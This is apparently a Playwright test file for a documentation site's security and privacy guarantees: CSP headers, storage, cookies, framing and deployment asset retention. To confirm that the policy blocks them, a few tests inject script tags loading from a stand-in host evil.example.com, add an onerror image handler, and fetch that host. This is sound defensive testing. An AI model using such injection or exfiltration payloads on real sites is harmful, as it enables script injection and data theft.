// What the site promises about security and privacy, as a browser sees it.
import { cpSync, mkdtempSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { execFileSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from '@playwright/test';
import { makeLaterRelease } from '../hosts/releases';
import { startServer } from '../../scripts/serve/server.mjs';
import { buildDir, connect, expect, hydrated, open, siteDir, test } from './site';

/** One page of each template. */
const templates = {
  home: '/',
  'docs root': '/docs/',
  guide: '/docs/Android/docScan',
  'theme builder': '/docs/react-native/colorConfig',
  reference: '/docs/capacitor/api/interfaces/DeckleSDK',
  'reference index': '/docs/react-native/api/',
  changelog: '/docs/Android/changelog',
  'standalone page': '/how-samples-are-verified',
} as const;

/** Notes everything that the policy refuses, across navigations. */
async function violationsOf(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await page.exposeFunction('noteViolation', (text: string) => void violations.push(text));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const { noteViolation } = window as unknown as { noteViolation: (text: string) => void };
      noteViolation(`${event.effectiveDirective}: ${event.blockedURI} ${event.sample}`);
    });
  });
  return violations;
}

test.describe('nothing is blocked', () => {
  test('on a page of each template, and on the not-found page', async ({ page, watch }) => {
    watch.allow(/404/);
    const violations = await violationsOf(page);
    for (const [name, path] of Object.entries({ ...templates, 'not found': '/docs/nope' })) {
      await test.step(name, async () => {
        const response = await page.goto(path);
        expect(response?.headers()['content-security-policy']).toContain(
          "default-src 'self'; script-src 'self' 'sha256-",
        );
        await hydrated(page);
        await page.mouse.wheel(0, 20_000);
        await page.waitForLoadState('networkidle');
        expect(violations).toEqual([]);
      });
    }
  });

  test('on a host without headers, where the page carries the policy', async ({ browser }) => {
    const site = await startServer({ root: buildDir, mode: 'direct', bare: true });
    const page = await browser.newPage();
    try {
      const violations = await violationsOf(page);
      for (const path of Object.values(templates)) {
        const response = await page.goto(`${site.url}${path}`);
        expect(response?.headers()).not.toHaveProperty('content-security-policy');
        await hydrated(page);
      }
      expect(violations).toEqual([]);
    } finally {
      await page.close();
      await site.close();
    }
  });
});

/** Keys that operations/README.md names, as patterns; the namespace of the site follows each. */
const documentedKeys = [
  ...readFileSync(join(siteDir, 'operations/README.md'), 'utf8')
    .replace(/^[\s\S]*\n## What the browser keeps\n/, '')
    .replace(/\n## [\s\S]*$/, '')
    .matchAll(/^\| `([^`]+)`/gm),
].map(([, key = '']) => {
  const pattern = key.replace(/[.*+?^${}()|[\]\\]/g, '\\$&').replace(/<[^>]+>/g, '.+');
  return new RegExp(`^${pattern}(?:-[\\da-f]{3})?$`);
});

async function expectPrivate(page: Page): Promise<void> {
  const kept = await page.evaluate(async () => ({
    keys: [...Object.keys(localStorage), ...Object.keys(sessionStorage)],
    workers: (await navigator.serviceWorker.getRegistrations()).length,
    caches: await caches.keys(),
    databases: (await indexedDB.databases()).map(({ name }) => name),
    cookie: document.cookie,
  }));
  expect(kept.keys.filter((key) => !documentedKeys.some((known) => known.test(key)))).toEqual([]);
  expect({ ...kept, keys: [] }).toEqual({
    keys: [],
    workers: 0,
    caches: [],
    databases: [],
    cookie: '',
  });
  expect(await page.context().cookies()).toEqual([]);
}

test.describe('using everything', () => {
  test('asks no third party, is refused nothing, sets no cookie and no service worker, and keeps only what is documented', async ({
    page,
    context,
  }) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
    const violations = await violationsOf(page);
    // That nothing leaves the site is what every test checks: see watchPage in site.ts.
    await open(page, '/docs/Android/docScan');
    await page.getByRole('tab', { name: 'Java' }).first().click();
    await page.getByRole('button', { name: /^Copy/ }).filter({ visible: true }).first().click();
    await page
      .getByRole('button', { name: /Switch between dark and light mode/ })
      .first()
      .click();
    await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');

    const switcher = page.locator('aside.theme-doc-sidebar-container details').first();
    await switcher.locator('summary').click();
    await switcher.getByRole('link', { name: 'React Native', exact: true }).first().click();
    await expect(page).toHaveURL('/docs/react-native/docScan');

    await open(page, '/docs/Android/colorConfig');
    await page.getByRole('textbox', { name: 'colorPrimary, light, hex value' }).fill('#102030');
    await expect(page).toHaveURL(/colors=/);
    await page.getByRole('radio', { name: 'Java' }).check();
    await page.getByRole('button', { name: 'Reset' }).click();

    await open(page, '/');
    await page.getByRole('link', { name: /^Start with/ }).click();
    await expect(page).toHaveURL(/\/docs\//);
    await hydrated(page);
    expect(violations).toEqual([]);
    await expectPrivate(page);
    expect(
      await page.evaluate(() =>
        Object.keys(localStorage).map((key) => key.replace(/-[\da-f]{3}$/, '')),
      ),
    ).toEqual(expect.arrayContaining(['theme', 'deckle.platform']));
  });

  test('is refused nothing in the drawer @phone', async ({ page }) => {
    const violations = await violationsOf(page);
    await open(page, '/docs/Android/onboarding');
    await page.getByRole('button', { name: 'Toggle navigation bar' }).tap();
    const drawer = page.locator('.navbar-sidebar');
    await drawer.getByText('Switch platform').locator('..').tap();
    await drawer.getByRole('link', { name: 'React Native', exact: true }).first().tap();
    await expect(page).toHaveURL('/docs/react-native/onboarding');
    expect(violations).toEqual([]);
    await expectPrivate(page);
  });
});

test.describe('what does not belong to the site', () => {
  for (const bare of [false, true]) {
    test(`an injected script does not run, ${bare ? 'by the policy of the page alone' : 'by the header'}`, async ({
      browser,
    }) => {
      const site = await startServer({ root: buildDir, mode: 'direct', bare });
      const page = await browser.newPage();
      try {
        const violations = await violationsOf(page);
        await page.route('**/docs/Android/docScan', async (route) => {
          if (!route.request().isNavigationRequest()) {
            await route.continue();
            return;
          }
          const response = await route.fetch();
          const html = (await response.text()).replace(
            '</head>',
            `<script>window.injected = 'script';</script>
             <script src="https://evil.example.com/a.js"></script>
             <style>body { display: none }</style></head>`,
          );
          await route.fulfill({
            response,
            body: html.replace(
              '</article>',
              '<img src="x" onerror="window.injected = 1"></article>',
            ),
          });
        });
        await page.goto(`${site.url}/docs/Android/docScan`);
        await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
        await expect.poll(() => violations.join('\n')).toMatch(/script-src-attr: inline/);
        expect(violations.join('\n')).toMatch(/script-src-elem: inline/);
        expect(violations.join('\n')).toMatch(/script-src-elem: https:\/\/evil\.example\.com/);
        expect(violations.join('\n')).toMatch(/style-src-elem: inline/);
        expect(await page.evaluate(() => 'injected' in window)).toBe(false);
      } finally {
        await page.close();
        await site.close();
      }
    });
  }

  test('data cannot be sent elsewhere', async ({ browser, baseURL }) => {
    const page = await browser.newPage();
    try {
      const violations = await violationsOf(page);
      await page.goto(`${baseURL!}/docs/`);
      expect(
        await page.evaluate(() =>
          fetch('https://evil.example.com/').then(
            () => 'sent',
            () => 'refused',
          ),
        ),
      ).toBe('refused');
      await expect
        .poll(() => violations.join('\n'))
        .toMatch(/connect-src: https:\/\/evil\.example\.com/);
    } finally {
      await page.close();
    }
  });

  test('another site cannot put a page into a frame', async ({ browser, baseURL }) => {
    const folder = mkdtempSync(join(tmpdir(), 'frame-'));
    writeFileSync(
      join(folder, 'index.html'),
      `<!doctype html><title>Frame</title><iframe src="${baseURL!}/docs/"></iframe>`,
    );
    const other = await startServer({ root: folder });
    const page = await browser.newPage();
    try {
      const refused = page.waitForEvent('requestfailed', (request) =>
        request.url().endsWith('/docs/'),
      );
      await page.goto(`${other.url}/`);
      expect((await refused).failure()?.errorText).toMatch(/BLOCKED_BY_(?:RESPONSE|CSP)/);
      await expect(page.frameLocator('iframe').locator('.navbar')).toHaveCount(0);
    } finally {
      await page.close();
      await other.close();
      rmSync(folder, { recursive: true });
    }
  });
});

test('a tab that was open during a deployment works with the scripts of the build before', async ({
  browser,
}) => {
  test.setTimeout(120_000);
  const folder = mkdtempSync(join(tmpdir(), 'deployments-'));
  const live = join(folder, 'live');
  const next = join(folder, 'next');
  const keep = (build: string): string =>
    execFileSync(
      process.execPath,
      ['scripts/keep-assets.mjs', join(folder, 'store'), '--build', build],
      {
        cwd: siteDir,
        encoding: 'utf8',
      },
    );
  cpSync(buildDir, live, { recursive: true });
  keep(live);
  makeLaterRelease(buildDir, next);
  const said = keep(next);
  expect(Number(/(\d+) kept from earlier/.exec(said)?.[1])).toBeGreaterThan(20);

  const site = await startServer({ root: live, mode: 'direct' });
  const page = await browser.newPage();
  const errors: string[] = [];
  page.on('pageerror', ({ message }) => void errors.push(message));
  // Nothing is fetched ahead, so that the next page needs files after the deployment.
  await connect(page);
  try {
    await page.goto(`${site.url}/docs/Android/docScan`);
    await hydrated(page);
    await page.evaluate(() => void ((window as unknown as { stays: boolean }).stays = true));

    renameSync(live, join(folder, 'before'));
    renameSync(next, live);
    const seen = site.log.length;

    // What the open page needs besides is still there.
    await page.keyboard.press('/');
    await expect(page.getByRole('dialog')).toBeVisible();
    const asked = site.log.slice(seen).filter(({ path }) => path.startsWith('/assets/js/'));
    expect(asked.length).toBeGreaterThan(0);
    expect(asked.filter(({ status }) => status !== 200)).toEqual([]);
    expect(await page.evaluate(() => 'stays' in window)).toBe(true);
    await page.keyboard.press('Escape');

    // The next page is one of the new deployment, with its scripts.
    await page.locator('aside a[href="/docs/Android/pdfCreation"]').first().click();
    await expect(page.getByRole('heading', { level: 1 })).toContainText(/PDF/);
    await hydrated(page);
    expect(await page.evaluate(() => 'stays' in window)).toBe(false);

    await page.reload();
    await hydrated(page);
    await expect(page.getByRole('heading', { level: 1 })).toContainText(/PDF/);
    // Said to the console, not to the reader: why the browser opened the page.
    expect(errors.filter((message) => !message.includes('newer version'))).toEqual([]);
  } finally {
    await page.close();
    await site.close();
    rmSync(folder, { recursive: true });
  }
});

test.describe('wrong base URL', () => {
  const message = 'Your Docusaurus site did not load properly.';

  test('the home page of a build for / that is served below /sub/ says so', async ({ browser }) => {
    const site = await startServer({ root: buildDir, base: '/sub', mode: 'direct' });
    const page = await browser.newPage();
    try {
      await page.goto(`${site.url}/`);
      await expect(page.getByText(message)).toBeVisible();
      await expect(page.getByText('We suggest trying baseUrl = /sub/')).toBeVisible();
      // Elsewhere there is no message: the page is readable as it is.
      await page.goto(`${site.url}/docs/Android/docScan`);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      await expect(page.getByText(message)).toHaveCount(0);
    } finally {
      await page.close();
      await site.close();
    }
  });
});
